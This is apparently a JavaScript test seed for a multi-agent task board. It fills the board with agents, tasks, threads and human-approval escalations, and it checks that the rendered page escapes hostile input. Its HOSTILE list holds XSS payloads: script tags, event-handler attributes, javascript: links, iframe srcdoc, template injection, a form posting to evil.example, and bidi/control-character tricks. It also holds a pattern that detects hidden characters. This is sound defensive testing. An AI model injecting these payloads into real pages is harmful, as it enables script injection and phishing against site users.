// seed.mjs: what stands on the tables of the themes, with words that are written to deceive a page or its reader.
import assert from "node:assert/strict";

/** Policies under which a coder's urgent tasks wait for a person, and nobody is too fast: a test is busier than people. */
export const APPROVAL = `
[[policy]]
name = "tool-authorization"
module = "builtin:tool-authorization"
mode = "enforce"

[policy.settings]
roles = { coder = { escalate = ["create_task(priority=high)"] } }

[[policy]]
name = "rate-limit"
module = "builtin:rate-limit"
mode = "off"

[[policy]]
name = "reply-cap"
module = "builtin:reply-cap"
mode = "off"
`;

export const LONGEST_NAME = "claude-release-and-packaging-eu-west-1.of-the-longest-name-there";
export const LONG_LINE = `${"0123456789".repeat(999)}0123456789`;
export const HOSTILE = [
  `<script>document.title = "stolen"</script>`,
  `<img src=x onerror="document.title = 'stolen'"><svg onload="document.title = 'stolen'">`,
  `"><a href="javascript:document.title = 'stolen'">click</a> [click](javascript:document.title='stolen') javascript:alert(1)`,
  `'"--></style></textarea></title><iframe srcdoc="<script>parent.document.title = 'stolen'</script>">`,
  `<form action=https://evil.example><input name=text><button>Approve</button></form>`,
  `invoice \u202Egnp.exe\u202C and \u2066isolated\u2069 and zero\u200Bwidth`,
  `NUL \u0000, escape \u001b[31mred\u001b[0m, bell \u0007, delete \u007f, C1 \u009b31m`,
  `event: ended\r\ndata: x\n\nid: 9\revent: count\n\n`,
  `{{constructor.constructor("document.title = 'stolen'")()}} \${7*7} <%= 7*7 %> hx-on:click="document.title='stolen'"`,
  `مرحبا بالعالم، هل نستخدم PostgreSQL؟ שלום 👩🏽‍💻🏳️‍🌈 日本語 Z͑ͫ̓a̴l̶g̸o̵ ﷽`,
  LONG_LINE,
];

/** Fails when something that an agent wrote has become a part of the page instead of its text. */
export async function harmless(page) {
  const found = await page.evaluate(() => {
    const main = document.querySelector("main");
    const elements = [...main.querySelectorAll("script, img, iframe, style, object, embed, [onerror], [onload], [onclick], [srcdoc]")];
    // A form's own `action` may be a field of that name.
    const links = [...document.querySelectorAll("a[href], form[action]")].map((element) => element.href ?? new URL(element.getAttribute("action"), location.href).href);
    return {
      title: document.title,
      elements: elements.map((element) => element.outerHTML.slice(0, 200)),
      links: links.filter((address) => !address.startsWith(location.origin)),
      // What cannot be seen has a mark in its place.
      hidden: /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]/.exec(main.textContent)?.[0].codePointAt(0),
    };
  });
  assert.doesNotMatch(found.title, /stolen/);
  assert.deepEqual(found.elements, []);
  assert.deepEqual(found.links, []);
  assert.equal(found.hidden, undefined, `U+${found.hidden?.toString(16)} is on the page`);
}

/** A table in use: agents, tasks in every state, threads, context, decisions, and what waits for a person. */
export async function furnish(table) {
  const [ada, bob, cleo, longest, idle, gone] = [
    await table.agent("ada", "coder", ["rust", "sqlite", "<b>bold</b>", "\u202Ereversed"]),
    await table.agent("bob", "reviewer", ["review"]),
    await table.agent("cleo", "designer"),
    await table.agent(LONGEST_NAME, "coder", Array.from({ length: 20 }, (_, index) => `capability-${index}-${"x".repeat(40)}`)),
    await table.agent("idle one", "ops"),
    await table.agent("gone", "tester"),
  ];
  table.daemon("bob");
  await gone.call("deregister");

  // Tasks: of every status, with what they wait for, their parts, comments and hostile titles.
  const task = async (title, more = {}) => (await cleo.call("create_task", { title, ...more })).id;
  const first = await task("Move the sessions table to the new schema", {
    description: "The old one keeps a token in clear.\n\n1. migrate\n2. verify\n3. drop the old table", priority: "high", assignee: "ada",
  });
  await ada.call("update_task", { task_id: first, status: "in_progress", result: "half of it" });
  const second = await task("Verify the migration", { depends_on: [first], parent_id: first, reviewer: "bob" });
  const blocked = await task("Publish the package", { assignee: LONGEST_NAME, depends_on: [] });
  await longest.call("claim_task", { task_id: blocked });
  await longest.call("update_task", { task_id: blocked, status: "blocked", result: "the registry is down" });
  const review = await task("Write the release notes", { assignee: "ada", reviewer: "bob" });
  await ada.call("update_task", { task_id: review, status: "in_progress" });
  await ada.call("update_task", { task_id: review, status: "awaiting_review", result: "docs/notes.md" });
  const done = await task("Choose a name", { assignee: "cleo" });
  await cleo.call("claim_task", { task_id: done });
  await cleo.call("update_task", { task_id: done, status: "done", result: LONG_LINE.slice(0, 4_000) });
  const cancelled = await task("Rename everything", { assignee: "cleo" });
  await cleo.call("update_task", { task_id: cancelled, status: "cancelled" });
  for (let number = 1; number <= 15; number += 1) await task(`A task of many, number ${number}`, { priority: number % 2 ? "low" : "medium" });
  for (const words of HOSTILE) await task(words.slice(0, 200), { description: words.slice(0, 5_000) });

  // Context.
  for (const [index, words] of HOSTILE.entries()) await ada.call("share_context", { key: `hostile/${index}`, value: words });
  for (let version = 0; version < 3; version += 1) await ada.call("share_context", { key: "design/colours", value: JSON.stringify({ accent: "#3046b8", version }), ttl_seconds: 86_400 });
  await longest.call("share_context", { key: `long/${"k".repeat(120)}`, value: "a long key" });

  // Threads: a long one, one to everyone, those with hostile words.
  let last = await ada.call("send_message", { recipient: "cleo", content: "I have the first draft of the board." });
  for (let number = 1; number <= 12; number += 1) {
    const [from, to] = number % 2 ? [cleo, "ada"] : [ada, "cleo"];
    last = await from.call("send_message", { recipient: to, content: `Answer ${number}: moved the columns, measured it again, it holds.`, reply_to: last.id });
  }
  await cleo.call("broadcast", { content: "The colours are in design/colours. Nothing to answer." });
  for (const words of HOSTILE) await ada.call("send_message", { recipient: "cleo", content: words.slice(0, 10_000) });

  // What waits for a person, and what does no more.
  const question = await ada.question("bob", "Should we drop the old sessions table, or keep it for one more release? I would drop it: nothing reads it.");
  for (const words of HOSTILE) await ada.question("bob", `${words.slice(0, 9_000)} Is this all right?`);
  const held = await ada.held("Publish team-table 1.0", { description: `Everything is tagged.\n${HOSTILE.slice(0, 9).join("\n")}`.slice(0, 5_000), assignee: LONGEST_NAME });
  await longest.held("x".repeat(200), { description: LONG_LINE.slice(0, 5_000) });
  const denied = await ada.held("Delete the production database");
  await table.cli("escalation", "resolve", String(denied), "--deny", "--note", "Never.");
  const approved = await longest.held("Tag the release");
  await table.cli("escalation", "resolve", String(approved), "--approve");
  await longest.call("create_task", { title: "Tag the release", priority: "high" });
  const answered = await ada.question("bob", "Which port does the server use?");
  await table.cli("escalation", "resolve", String(answered), "--reply", "8741.");
  return { agents: { ada, bob, cleo, longest, idle }, question, held, denied, answered, task: first, waits: second, thread: last.thread_id };
}
